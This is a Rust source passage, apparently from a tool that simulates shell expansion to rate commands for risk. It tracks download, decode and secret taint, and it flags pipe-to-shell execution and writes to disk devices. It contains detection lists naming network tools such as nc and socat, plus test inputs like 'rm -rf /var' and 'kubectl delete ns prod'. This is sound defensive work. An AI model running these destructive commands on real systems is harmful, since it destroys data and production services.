                f.risk = f.risk.max(Risk::High);
                f.destructive = true;
            }
            self.push(f, seg.clone());
        }
        for c in outcome.changes {
            match c {
                Change::Cwd(d) => {
                    self.state.site.cd(d.as_deref());
                    self.state.sync_pwd();
                    if d.is_some() {
                        self.state.cwd = d;
                    }
                }
                Change::TfWorkspace(w) => self.state.tf_workspace = Some(w),
                Change::KubeContext(c) => self.state.kube_context = Some(c),
                Change::Var(n, v) => {
                    let arg = match &v.text {
                        Some(t) => Arg {
                            text: t.clone(),
                            resolved: true,
                            taint: v.taint,
                        },
                        None => Arg::unresolved(&format!("${{{n}}}"), v.taint),
                    };
                    self.hook_var(&n, &arg, depth);
                    self.state.vars.insert(n, v);
                }
                Change::Alias(n, v) => {
                    self.state.aliases.insert(n, v);
                }
                Change::Link { path, target } => self.state.site.link(&path, &target),
            }
        }
        let outer_env = self.out.actions.last().and_then(|a| a.env.clone());
        let before = self.out.actions.len();
        // What runs on another host or in a pod has no workspace there.
        let home_site = outcome
            .remote
            .then(|| std::mem::replace(&mut self.state.site, Site::elsewhere()));
        for n in outcome.nested {
            match n {
                Nested::Argv(a) => {
                    self.dispatch(a, Vec::new(), Stdin::Terminal, depth + 1);
                }
                Nested::Script(s) => {
                    self.run_script(&s, depth + 1, Stdin::Terminal);
                }
            }
        }
        if let Some(site) = home_site {
            self.state.site = site;
        }
        // What runs on a prod host or pod (`ssh prod-web-1 …`, `kubectl exec -n prod`)
        // runs in prod.
        for a in self.out.actions.iter_mut().skip(before) {
            if a.env.is_none() {
                a.env.clone_from(&outer_env);
            }
        }
        stdout
    }
}

/// The scripts arithmetic on `text` runs: an array subscript's substitutions, in the
/// text itself when `literal` (`let 'a[$(cmd)]=1'`) or in the value of a variable it
/// names (`x='a[$(cmd)]'; echo $((x))`), followed through variables naming variables.
pub(crate) fn arith_scripts(text: &str, state: &State, literal: bool) -> Vec<String> {
    let subscripted = |t: &str| {
        t.find('[')
            .is_some_and(|i| t[i..].contains("$(") || t[i..].contains('`'))
    };
    let mut out = Vec::new();
    if literal && subscripted(text) {
        out.extend(lex::substitutions(text, false));
    }
    let mut names: Vec<&str> = text
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
        .collect();
    let mut seen = HashSet::new();
    while let Some(n) = names.pop() {
        if seen.len() > 64 || !seen.insert(n) {
            continue;
        }
        let Some(value) = state.var(n) else {
            continue;
        };
        if subscripted(value) {
            out.extend(lex::substitutions(value, false));
        }
        names.extend(
            value
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .filter(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')),
        );
    }
    out
}

/// An `exec` of something unknown: critical when downloaded or decoded (code nobody has
/// seen), otherwise high risk and destructive, since it could be anything.
fn exec_of(t: Taint, name: &str) -> Finding {
    if t.decode {
        Finding::new("opaque-exec", Verb::Exec, Risk::Critical, "command", name)
    } else if t.download {
        Finding::new("pipe-to-shell", Verb::Exec, Risk::Critical, "command", name)
    } else {
        Finding::new(
            "unresolved-program",
            Verb::Exec,
            Risk::High,
            "command",
            name,
        )
        .destructive()
    }
}

/// Whether a path is a disk device, where writing destroys data.
pub(crate) fn is_block_device(path: &str) -> bool {
    let Some(dev) = path.strip_prefix("/dev/") else {
        return false;
    };
    [
        "sd", "hd", "vd", "xvd", "nvme", "mmcblk", "disk", "md", "dm-", "mapper/", "loop",
    ]
    .iter()
    .any(|p| dev.starts_with(p))
}

/// What a command writes to stdout, for the next command in its pipe.
fn stdout_of(name: &str, args: &[Arg], stdin: &Stdin, is_secret: egress::SecretPath) -> Stdin {
    let all_resolved = args.iter().all(|a| a.resolved);
    let mut taint = args.iter().fold(stdin.taint(), |t, a| t.union(a.taint));
    // What reads a credential file or prints credentials carries them on.
    taint.secret |=
        egress::prints_secrets(name, args) || args.iter().any(|a| a.resolved && is_secret(&a.text));
    match name {
        // `mktemp` prints a fresh name in scratch space.
        "mktemp"
            if !args
                .iter()
                .any(|a| a.text.starts_with("-p") || a.text.starts_with("--tmpdir")) =>
        {
            Stdin::Text("/tmp/tmp.XXXXXXXXXX\n".to_string())
        }
        "echo" if all_resolved => {
            let words: Vec<&str> = args
                .iter()
                .map(|a| a.text.as_str())
                .skip_while(|a| matches!(*a, "-n" | "-e" | "-E" | "-ne" | "-en"))
                .collect();
            Stdin::Text(words.join(" ") + "\n")
        }
        "printf" if all_resolved => Stdin::Text(printf(args)),
        // `$(which kubectl)` is kubectl's path.
        "which" if all_resolved => match args.iter().rfind(|a| !a.text.starts_with('-')) {
            Some(a) => Stdin::Text(format!("{}\n", a.text)),
            None => Stdin::Opaque(taint),
        },
        "cat" | "tee"
            if args
                .iter()
                .all(|a| a.text.starts_with('-') || name == "tee") =>
        {
            stdin.clone()
        }
        "curl" | "wget" | "fetch" | "http" | "https" | "xh" | "nc" | "ncat" | "netcat"
        | "socat" | "telnet" => Stdin::Opaque(Taint {
            download: true,
            ..taint
        }),
        "base64" | "base32" | "xxd" | "openssl" | "gunzip" | "zcat" | "gzip" | "bzip2"
        | "bunzip2" | "xz" | "unxz" | "uudecode" | "rev" | "tr" => Stdin::Opaque(Taint {
            decode: true,
            ..taint
        }),
        _ => Stdin::Opaque(taint),
    }
}

/// Enough of `printf` to see what `printf '%s\n' "DROP TABLE x"` prints.
fn printf(args: &[Arg]) -> String {
    let Some((fmt, rest)) = args.split_first() else {
        return String::new();
    };
    let fmt = fmt.text.replace("\\n", "\n").replace("\\t", "\t");
    let mut rest = rest.iter();
    let mut out = String::new();
    let mut pieces = fmt.split("%s").peekable();
    while let Some(p) = pieces.next() {
        out.push_str(p);
        if pieces.peek().is_some() {
            out.push_str(rest.next().map_or("", |a| a.text.as_str()));
        }
    }
    for a in rest {
        out.push(' ');
        out.push_str(&a.text);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(src: &str) -> Vec<Arg> {
        let mut out = Classification::default();
        let mut r = Runner::new(&mut out, None);
        let cmds = pipelines(lex::tokenize(src));
        let mut last = Vec::new();
        for p in cmds {
            for c in p {
                let mut assigns = Vec::new();
                let mut words = c.words.iter().peekable();
                while let Some((n, v)) = words.peek().and_then(|w| split_assignment(w)) {
                    let v = r.expand_one(&v, 0);
                    assigns.push((n, v));
                    words.next();
                }
                last = words.flat_map(|w| r.expand(w, 0, true)).collect();
                if last.is_empty() {
                    for (n, v) in &assigns {
                        r.state.vars.insert(n.clone(), Value::from(v));
                    }
                }
            }
        }
        last
    }

    fn texts(src: &str) -> Vec<String> {
        argv(src).into_iter().map(|a| a.text).collect()
    }

    #[test]
    fn assignments_resolve_later_words() {
        assert_eq!(
            texts("NS=prod; kubectl delete ns $NS"),
            ["kubectl", "delete", "ns", "prod"]
        );
        assert_eq!(texts("NS=prod; echo ${NS}-x"), ["echo", "prod-x"]);
        assert_eq!(texts(r#"C="rm -rf"; $C /var"#), ["rm", "-rf", "/var"]);
        assert_eq!(texts(r#"C="rm -rf"; "$C" /var"#), ["rm -rf", "/var"]);
        assert_eq!(texts("echo ${UNSET:-dflt}"), ["echo", "dflt"]);
        assert_eq!(texts("rm -rf $HOME"), ["rm", "-rf", "~"]);
    }

    #[test]
    fn unknown_values_stay_unresolved() {
        let a = argv("kubectl delete ns $NS");
        assert!(!a[3].resolved);
        assert_eq!(a[3].name(), UNRESOLVED);
        let a = argv("X=$(curl -s http://x); echo $X");
        assert!(!a[1].resolved && a[1].taint.download);
    }

    #[test]
    fn echo_substitution_resolves() {
        assert_eq!(
            texts("$(echo kubectl) get pods"),
            ["kubectl", "get", "pods"]
        );
        assert_eq!(texts("`printf '%s' rm` -rf x"), ["rm", "-rf", "x"]);
    }

    #[test]
    fn pipelines_split_on_operators() {
        let p = pipelines(lex::tokenize("a | b && c; d\ne | f"));
        let sizes: Vec<usize> = p.iter().map(Vec::len).collect();
        assert_eq!(sizes, [2, 1, 1, 2]);
    }

    #[test]
    fn segments_quote_what_needs_it() {
        let args = [Arg::lit("-c"), Arg::lit("DROP TABLE x")];
        assert_eq!(segment(&[], "psql", &args), "psql -c 'DROP TABLE x'");
    }
}
